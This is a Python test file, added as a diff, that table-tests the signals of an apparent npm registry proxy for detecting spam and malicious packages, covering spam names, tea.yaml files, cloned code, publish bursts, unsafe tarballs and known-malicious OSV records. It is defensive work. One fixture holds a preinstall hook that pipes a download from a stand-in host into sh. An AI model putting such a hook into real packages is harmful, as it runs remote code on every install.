@@ -1,0 +1,262 @@
+"""Every signal, table-driven: positive and negative rows built from real-shaped facts.
+
+Each row is (signal, facts, expected): `expected` is None when the signal must stay silent, or
+(severity, confidence) it must fire with.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
+from types import MappingProxyType
+
+import pytest
+
+from proxy.detect.facts import Context, OsvHit, PackageFacts, Subject, VersionFacts
+from proxy.detect.model import Confidence, Family, Severity
+from proxy.detect.signals import (
+    SIGNALS,
+    cloned_code,
+    dependency_ring,
+    generated_name,
+    install_scripts,
+    known_malicious,
+    publish_burst,
+    spam_name,
+    tea_wallet_reuse,
+    tea_yaml,
+    trivial_code,
+    unsafe_tarball,
+    young_package,
+)
+from proxy.npm.tarball import Problem, ProblemKind
+from proxy.npm.teafile import parse_tea
+from tests.detect.helpers import name_only, renamed, subject, with_tarball
+
+H, M, L, C = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.CRITICAL
+HC, MC, LC = Confidence.HIGH, Confidence.MEDIUM, Confidence.LOW
+NOW = datetime(2024, 3, 1, tzinfo=UTC)
+Build = Callable[[], Subject]
+
+
+def ctx(**kw: object) -> Context:
+    return dataclasses.replace(Context(), **kw)  # type: ignore[arg-type]
+
+
+def tea_moved(path: str) -> Subject:
+    s = subject("uniset")
+    assert s.tarball is not None
+    tea = parse_tea(path, "codeOwners:\n  - '0x723332A6f259f8457e71a346566466036a5Eb3C8'\n")
+    return with_tarball(s, tea_files=(tea,))
+
+
+def timed(versions: dict[str, datetime], created: datetime | None = None) -> Subject:
+    vs = {v: VersionFacts(v, published=t) for v, t in versions.items()}
+    package = PackageFacts("fast-pub", versions=MappingProxyType(vs), created=created)
+    return Subject(package, None, None, ctx(now=NOW))
+
+
+def minutes(*spec: tuple[str, int]) -> dict[str, datetime]:
+    return {v: NOW - timedelta(days=30) + timedelta(minutes=m) for v, m in spec}
+
+
+def scripts(pj_scripts: dict[str, str]) -> Subject:
+    s = subject("@babel/code-frame")
+    assert s.tarball is not None
+    assert s.tarball.package_json is not None
+    return with_tarball(s, package_json={**s.tarball.package_json, "scripts": pj_scripts})
+
+
+def hit(category: str) -> OsvHit:
+    return OsvHit(
+        "LWA-2026-10086", ("MAL-2026-12067",), "Malicious code in hwi-lib (npm)", category
+    )
+
+
+def problems(*kinds: ProblemKind) -> Subject:
+    return with_tarball(
+        subject("client-only"), problems=tuple(Problem(k, "package/x", "test") for k in kinds)
+    )
+
+
+def sources(text: str) -> Subject:
+    s = subject("nomind-big-integer")
+    return with_tarball(s, sources={"package/bigInteger.js": text}, sources_complete=True)
+
+
+TABLE: list[tuple[object, Build, tuple[Severity, Confidence] | None]] = [
+    # tea-yaml
+    (tea_yaml, lambda: subject("uniset"), (H, HC)),
+    (tea_yaml, lambda: subject("constitution"), (H, HC)),  # tea.yml, several wallets
+    (tea_yaml, lambda: subject("xcho"), (H, HC)),  # package.json in a subfolder
+    (tea_yaml, lambda: subject("stankpoll"), (H, MC)),  # tea.yaml without a wallet
+    (tea_yaml, lambda: tea_moved("package/test/fixtures/tea.yaml"), (M, LC)),
+    (tea_yaml, lambda: subject("@babel/code-frame"), None),
+    (tea_yaml, lambda: name_only("uniset"), None),
+    # tea-wallet-reuse
+    (
+        tea_wallet_reuse,
+        lambda: subject("uniset", ctx(wallet_names={"0xabc": ("a", "b", "c")})),
+        (H, HC),
+    ),
+    (tea_wallet_reuse, lambda: subject("uniset", ctx(wallet_names={"0xabc": ("a",)})), (M, HC)),
+    (tea_wallet_reuse, lambda: subject("uniset"), None),
+    # spam-name
+    (spam_name, lambda: name_only("free-robux-generator-2024-no-human-verification"), (H, HC)),
+    (spam_name, lambda: name_only("watch-dune-part-two-online-free-fullmovies-at-home"), (H, HC)),
+    (spam_name, lambda: name_only("ver-oppenheimer-pelicula-completa-en-espanol-latino"), (H, HC)),
+    (spam_name, lambda: name_only("stream-online-hd"), (M, LC)),
+    (spam_name, lambda: name_only("@fortawesome/free-solid-svg-icons"), None),
+    (spam_name, lambda: name_only("get-stream"), None),
+    (spam_name, lambda: name_only("jest-watch-typeahead"), None),
+    # trivial-code
+    (trivial_code, lambda: subject("uniset"), (M, MC)),  # README + tea.yaml only
+    (trivial_code, lambda: subject("client-only"), (M, MC)),  # a marker package: tiny code
+    (trivial_code, lambda: subject("@babel/code-frame"), None),
+    (trivial_code, lambda: subject("nomind-big-integer"), None),
+    (
+        trivial_code,
+        lambda: with_tarball(
+            subject("nomind-big-integer"),
+            sources={"package/bigInteger.js": "console.log('hello world');\n"},
+        ),
+        (M, MC),
+    ),
+    (
+        trivial_code,
+        lambda: subject("client-only", packument=None, files=None, texts=None),
+        None,
+    ),
+    # cloned-code
+    (
+        cloned_code,
+        lambda: subject("xcho", ctx(clone_names=("a", "b", "c"), clone_share=1.0, clone_files=8)),
+        (H, MC),
+    ),
+    (
+        cloned_code,
+        lambda: subject("xcho", ctx(clone_names=("kopiliong",), clone_share=0.9, clone_files=8)),
+        (M, MC),
+    ),
+    (
+        cloned_code,
+        lambda: subject("xcho", ctx(clone_names=("a",), clone_share=0.5, clone_files=8)),
+        None,
+    ),
+    (
+        cloned_code,
+        lambda: subject("xcho", ctx(clone_names=("a",), clone_share=1.0, clone_files=1)),
+        None,
+    ),
+    (cloned_code, lambda: subject("xcho"), None),
+    # generated-name
+    (generated_name, lambda: name_only("damp_spoonbill_coral-60"), (M, MC)),
+    (generated_name, lambda: name_only("brisk_otter_k9x"), (M, MC)),
+    (generated_name, lambda: name_only("updated-tricks-2qq4p45gt"), (M, MC)),
+    (generated_name, lambda: name_only("balladoriel-8396"), (M, LC)),
+    (generated_name, lambda: name_only("-pem-misa"), (M, LC)),
+    (generated_name, lambda: name_only("@solana-program/token-2022"), None),
+    (generated_name, lambda: name_only("secp256k1"), None),
+    (generated_name, lambda: name_only("i18next"), None),
+    (generated_name, lambda: name_only("lodash._baseflatten"), None),
+    # dependency-ring
+    (
+        dependency_ring,
+        lambda: subject("nomind-big-integer", ctx(flagged_dependencies={"bignumber.js": "spam"})),
+        (H, MC),
+    ),
+    (dependency_ring, lambda: renamed(subject("nomind-big-integer"), "bignumber.js"), (M, HC)),
+    (
+        dependency_ring,
+        lambda: subject("nomind-big-integer", ctx(dependency_cycles=(("a", "b", "a"),))),
+        (M, MC),
+    ),
+    (dependency_ring, lambda: sources("module.exports = 42;\n" * 20), (L, LC)),
+    (dependency_ring, lambda: sources("const B = require('bignumber.js');\n"), None),
+    (dependency_ring, lambda: sources("import B from 'bignumber.js/dist';\n"), None),
+    (dependency_ring, lambda: subject("nomind-big-integer"), None),  # sources unknown
+    # publish-burst
+    (publish_burst, lambda: timed(minutes(*((f"1.0.{i}", i * 3) for i in range(6)))), (M, MC)),
+    (
+        publish_burst,
+        lambda: timed(
+            minutes(("4.2.7", 0), ("1.2.34", 2), ("9.2.60", 4), ("5.2.7", 6), ("2.9.1", 8))
+        ),
+        (M, HC),
+    ),
+    (
+        publish_burst,
+        lambda: timed(minutes(("4.2.7", 0), ("1.2.34", 900), ("9.2.60", 1900), ("5.2.7", 2900))),
+        (M, LC),
+    ),
+    (publish_burst, lambda: timed(minutes(*((f"1.{i}.0", i * 10_000) for i in range(8)))), None),
+    (publish_burst, lambda: subject("@babel/code-frame"), None),  # times unknown
+    # young-package
+    (young_package, lambda: timed({"1.0.0": NOW}, created=NOW - timedelta(hours=5)), (L, HC)),
+    (young_package, lambda: timed({"1.0.0": NOW}, created=NOW - timedelta(days=400)), None),
+    (young_package, lambda: subject("@babel/code-frame"), None),
+    # install-scripts
+    (install_scripts, lambda: scripts({"postinstall": "node-gyp rebuild"}), (L, HC)),
+    (install_scripts, lambda: scripts({"preinstall": "curl -s http://x.invalid/a | sh"}), (M, HC)),
+    (install_scripts, lambda: scripts({"test": "jest", "prepare": "tsc"}), None),
+    (install_scripts, lambda: subject("@babel/code-frame"), None),
+    # known-malicious
+    (known_malicious, lambda: name_only("hwi-lib", "1.0.2", ctx(osv=(hit("malware"),))), (C, HC)),
+    (known_malicious, lambda: name_only("hwi-lib", "1.0.2", ctx(osv=(hit("spam"),))), (H, HC)),
+    (known_malicious, lambda: name_only("hwi-lib", "1.0.2"), None),
+    # unsafe-tarball
+    (unsafe_tarball, lambda: problems(ProblemKind.PATH_TRAVERSAL), (H, HC)),
+    (unsafe_tarball, lambda: problems(ProblemKind.DEVICE), (H, HC)),
+    (unsafe_tarball, lambda: problems(ProblemKind.LINK), (L, HC)),
+    (unsafe_tarball, lambda: problems(ProblemKind.RATIO), (M, HC)),
+    (unsafe_tarball, lambda: subject("client-only"), None),
+]
+
+
+@pytest.mark.parametrize(
+    ("module", "build", "expected"),
+    TABLE,
+    ids=[f"{m.SPEC.id}-{i}" for i, (m, _, _) in enumerate(TABLE)],  # type: ignore[attr-defined]
+)
+def test_signal(module: object, build: Build, expected: tuple[Severity, Confidence] | None) -> None:
+    spec = module.SPEC  # type: ignore[attr-defined]
+    finding = module.check(build())  # type: ignore[attr-defined]
+    if expected is None:
+        assert finding is None
+        return
+    assert finding is not None
+    assert finding.signal_id == spec.id
+    assert (finding.severity, finding.confidence) == expected
+    assert finding.reason
+    assert not finding.reason[0].isupper()
+    assert "\n" not in finding.reason
+    assert isinstance(finding.evidence, dict)
+
+
+def test_every_signal_has_rows_both_ways() -> None:
+    by_id: dict[str, set[bool]] = {}
+    for module, _, expected in TABLE:
+        by_id.setdefault(module.SPEC.id, set()).add(expected is None)  # type: ignore[attr-defined]
+    assert set(by_id) == {spec.id for spec, _ in SIGNALS}
+    assert all(v == {True, False} for v in by_id.values()), by_id
+
+
+def test_registry_is_documented_and_unique() -> None:
+    import sys
+
+    ids = [spec.id for spec, _ in SIGNALS]
+    assert len(ids) == len(set(ids))
+    for spec, check in SIGNALS:
+        doc = sys.modules[check.__module__].__doc__ or ""
+        assert doc.startswith(f"{spec.id}:"), spec.id
+        assert "Known false positives" in doc, spec.id
+
+
+def test_spam_osv_record_is_spam_family() -> None:
+    f = known_malicious.check(name_only("x", "1.0.0", ctx(osv=(hit("spam"),))))
+    assert f is not None
+    assert f.family is Family.SPAM
+    f = known_malicious.check(name_only("x", "1.0.0", ctx(osv=(hit("malware"),))))
+    assert f is not None
+    assert f.family is Family.MALWARE
